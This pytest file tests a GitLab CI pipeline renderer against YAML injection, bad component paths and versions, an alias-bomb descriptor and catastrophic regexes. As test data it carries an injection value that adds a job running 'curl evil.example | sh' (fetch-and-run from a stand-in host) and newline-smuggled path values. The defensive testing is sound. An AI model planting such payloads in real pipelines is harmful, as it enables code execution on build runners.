"""auto-pipelines render against hostile values: no value shapes the rendered YAML; what GitLab expects to be a
name, a path or a version is refused in one line when it is not one; GitLab's regexes run on RE2."""

from __future__ import annotations

import shutil
import time
from pathlib import Path

import pytest
import yaml

from pipelines import render as render_module
from pipelines.cli import main
from pipelines.locations import TEMPLATES_DIR

INJECTION = "test\nevil-job:\n  script: [curl evil.example | sh]"
DESCRIPTOR = "name: orders\nversion: v1\ndocs: docs\npipeline:\n  components: [build, test]\n"


@pytest.fixture
def service(tmp_path: Path) -> Path:
    (tmp_path / "auto-service.yml").write_text(DESCRIPTOR)
    return tmp_path


def _render(service: Path, *extra: str) -> int:
    return main(["render", str(service / "auto-service.yml"), *extra])


def _error_line(capsys: pytest.CaptureFixture[str]) -> str:
    lines = [line for line in capsys.readouterr().err.splitlines() if line.startswith("Error: ")]
    assert len(lines) == 1, lines
    return lines[0]


# --------------------------------------------------------------------------- values never shape the YAML


def test_a_stage_that_would_add_a_job_is_refused(service: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # The tester's input: written unquoted into stages:, it became the job evil-job, and lint passed it.
    assert _render(service, "--input", f"test.stage={INJECTION}") == 2
    assert _error_line(capsys) == (
        "Error: component test: stage 'test\\nevil-job:\\n script: [curl evil.example | sh]' holds a control "
        "character; GitLab expects a stage name"
    )
    assert not (service / ".gitlab-ci.yml").exists()


def test_the_same_stage_from_the_descriptor_is_refused(service: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (service / "auto-service.yml").write_text(
        DESCRIPTOR + '  inputs:\n    test:\n      stage: "test\\nevil-job:\\n  script: [curl evil.example | sh]"\n'
    )
    assert _render(service) == 2
    assert "holds a control character; GitLab expects a stage name" in _error_line(capsys)
    assert not (service / ".gitlab-ci.yml").exists()


def test_an_input_value_with_line_breaks_stays_one_quoted_scalar(
    service: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _render(service, "--input", f"test.tox-envs={INJECTION}") == 0
    text = (service / ".gitlab-ci.yml").read_text()
    assert '      tox-envs: "test\\nevil-job:\\n  script: [curl evil.example | sh]"\n' in text
    document = yaml.safe_load(text)
    assert set(document) == {"include", "stages"}
    assert document["include"][1]["inputs"] == {"tox-envs": INJECTION}
    assert main(["lint", str(service / ".gitlab-ci.yml")]) == 0
    assert _render(service, "--input", f"test.tox-envs={INJECTION}", "--check") == 0


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("lint,test", "lint,test"),  # plain, as always: rendered files stay byte-identical
        ("a: b", "'a: b'"),  # PyYAML's single quotes, as before
        ("x #comment", "'x #comment'"),
        ("yes", "'yes'"),
        (":symbol", '":symbol"'),  # plain, GitLab's Psych would read a Ruby Symbol
        ("1,000", '"1,000"'),  # plain, Psych would read the number 1000
        ("0:30", '"0:30"'),  # Psych: the sexagesimal 30
        ("yEs", '"yEs"'),  # Psych: true (its booleans ignore case)
        ("27.1.1", "27.1.1"),  # a string to both: stays plain
        ("tab\there", '"tab\\there"'),
        ("line\u2028separator", '"line\\u2028separator"'),  # a line break to YAML 1.1
        ("next\x85line", '"next\\x85line"'),
        ("bidi\u202eoverride", '"bidi\\u202eoverride"'),  # shown, not obeyed
        ('quote"and\\back\nslash', '"quote\\"and\\\\back\\nslash"'),
        ("é and 😀", "é and 😀"),
    ],
)
def test_values_are_plain_when_safe_and_quoted_when_not(service: Path, value: str, written: str) -> None:
    assert _render(service, "--input", f"test.tox-envs={value}") == 0
    text = (service / ".gitlab-ci.yml").read_text(encoding="utf-8")
    assert f"      tox-envs: {written}\n" in text
    assert yaml.safe_load(text)["include"][1]["inputs"]["tox-envs"] == value


def test_a_stage_that_needs_quotes_is_quoted_in_both_places(service: Path) -> None:
    assert _render(service, "--input", "test.stage=check: all") == 0
    text = (service / ".gitlab-ci.yml").read_text()
    assert "      stage: 'check: all'\n" in text and "  - 'check: all'\n" in text
    assert yaml.safe_load(text)["stages"] == ["build", "check: all"]


def test_the_read_back_check_refuses_a_structure_a_value_changed(
    service: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Were a value ever written unquoted, the rendered file would not read back as meant, and nothing is written.
    monkeypatch.setattr(render_module, "_yaml_scalar", str)
    assert _render(service, "--input", f"test.tox-envs={INJECTION}") == 2
    assert _error_line(capsys) == (
        f"Error: {service / '.gitlab-ci.yml'}: its include: does not read back as rendered (a value changed the "
        "YAML): nothing written"
    )
    assert not (service / ".gitlab-ci.yml").exists()


def test_typed_values_that_no_yaml_can_carry_are_refused(service: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (service / "auto-service.yml").write_text(DESCRIPTOR.replace("[build, test]", "[build, deploy-staging]"))
    args = ("--input", "deploy-staging.url=https://x.test", "--input", "deploy-staging.timeout=.nan")
    assert _render(service, *args) == 2
    assert _error_line(capsys) == "Error: input deploy-staging.timeout: nan is not a finite number"
    assert _render(service, "--input", "test.tox-envs=\udcff", "--components", "test") == 2
    assert _error_line(capsys) == "Error: input test.tox-envs: '\\udcff' is not UTF-8 text"


# --------------------------------------------------------------------------- names, paths, versions


@pytest.mark.parametrize(
    "path",
    [
        "$CI_SERVER_FQDN/auto",  # no project
        "gitlab.example.com",
        "gitlab.example.com/group b/project",
        "gitlab.example.com/group/project\nevil: 1",
        "gitlab.example.com/group/project\t",
        "gitlab.example.com/group/project#x",
        "https://gitlab.example.com/group/project",
        "gitlab.example.com//project",
        "gitlab.example.com/-group/project",
        "gitlab.example.com/group/project.git",
        "${CI_SERVER_FQDN}x/group/project",
        "gitlab.example.com/group/project/",
    ],
)
def test_a_bad_component_path_is_one_line(service: Path, capsys: pytest.CaptureFixture[str], path: str) -> None:
    assert _render(service, "--component-path", path) == 2
    assert _error_line(capsys) == (
        f"Error: component path {path!r}: not a GitLab component path; write HOST/GROUP/PROJECT, the host a domain "
        "name or $CI_SERVER_FQDN (default: $CI_SERVER_FQDN/auto/toolkit)"
    )
    assert not (service / ".gitlab-ci.yml").exists()


@pytest.mark.parametrize(
    "path",
    ["$CI_SERVER_FQDN/auto/toolkit", "gitlab.example.com/group/project", "gitlab.example.com:8443/a/b_c/d.e-f"],
)
def test_good_component_paths_render(service: Path, path: str) -> None:
    assert _render(service, "--component-path", path) == 0
    include = yaml.safe_load((service / ".gitlab-ci.yml").read_text())["include"]
    assert [i["component"] for i in include] == [f"{path}/build@1", f"{path}/test@1"]


def test_a_version_with_a_line_break_is_refused(service: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _render(service, "--version", "1\n") == 2  # Python's $ matches before a final newline: matched whole now
    assert _error_line(capsys) == (
        "Error: component version '1\\n': use a release (1, 1.2, 1.2.3), ~latest or a commit SHA"
    )


def test_a_descriptor_path_with_a_line_break_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Its path is written into the file's first comment, where a line break would start YAML of its own.
    descriptor = tmp_path / "svc\nevil: 1.yml"
    descriptor.write_text(DESCRIPTOR)
    assert main(["render", str(descriptor), "--out", str(tmp_path / ".gitlab-ci.yml")]) == 2
    assert _error_line(capsys) == "Error: descriptor path 'svc\\nevil: 1.yml': holds a control character; rename it"


def test_a_component_file_name_gitlab_would_not_take_is_refused(
    service: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    templates = tmp_path / "templates"
    shutil.copytree(TEMPLATES_DIR, templates)
    shutil.copy(templates / "test.yml", templates / "te st.yml")
    assert _render(service, "--templates", str(templates)) == 2
    assert _error_line(capsys) == (
        f"Error: {templates / 'te st.yml'}: 'te st' is not a component name GitLab accepts (letters, digits, _ . -)"
    )


def test_an_alias_bomb_descriptor_is_refused_in_one_line(service: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    (service / "auto-service.yml").write_text("name: orders\n" + bomb)
    started = time.monotonic()
    assert _render(service) == 2
    assert time.monotonic() - started < 20
    assert _error_line(capsys) == (
        f"Error: {service / 'auto-service.yml'}: more than 500000 nodes (YAML aliases expanded), over the node "
        "count budget of 500000: refused unread"
    )


# --------------------------------------------------------------------------- component regexes on RE2


def _templates_with_regex(tmp_path: Path, regex: str) -> Path:
    templates = tmp_path / "templates"
    shutil.copytree(TEMPLATES_DIR, templates)
    text = (templates / "test.yml").read_text()
    text = text.replace("      default: lint,test\n", f"      default: lint,test\n      regex: '{regex}'\n")
    (templates / "test.yml").write_text(text)
    return templates


def test_a_catastrophic_input_regex_answers_at_once(
    service: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    templates = _templates_with_regex(tmp_path, "^([a-z,]+)+$")
    started = time.monotonic()
    assert _render(service, "--templates", str(templates), "--input", "test.tox-envs=" + "a" * 40 + "!") == 2
    assert time.monotonic() - started < 20
    assert _error_line(capsys) == f"Error: input test.tox-envs: '{'a' * 40}!' does not match ^([a-z,]+)+$"


def test_an_input_regex_re2_refuses_is_one_line(
    service: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    templates = _templates_with_regex(tmp_path, "^(?!x)[a-z,]+$")
    assert _render(service, "--templates", str(templates), "--input", "test.tox-envs=lint") == 2
    assert _error_line(capsys) == (
        "Error: input test.tox-envs: its regex '^(?!x)[a-z,]+$' is refused by RE2, GitLab's regex engine "
        "(invalid perl operator: (?!): GitLab would refuse it"
    )


def test_an_input_regex_matches_as_gitlab_does(service: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # deploy-staging's service regex is ^[a-z][a-z0-9-]*$: Python's re took "orders\n" (its $ matches before a
    # final newline); RE2, GitLab's engine, does not.
    (service / "auto-service.yml").write_text(DESCRIPTOR.replace("[build, test]", "[build, deploy-staging]"))
    args = ("--input", "deploy-staging.url=https://x.test", "--input", "deploy-staging.service=orders\n")
    assert _render(service, *args) == 2
    assert _error_line(capsys) == "Error: input deploy-staging.service: 'orders\\n' does not match ^[a-z][a-z0-9-]*$"
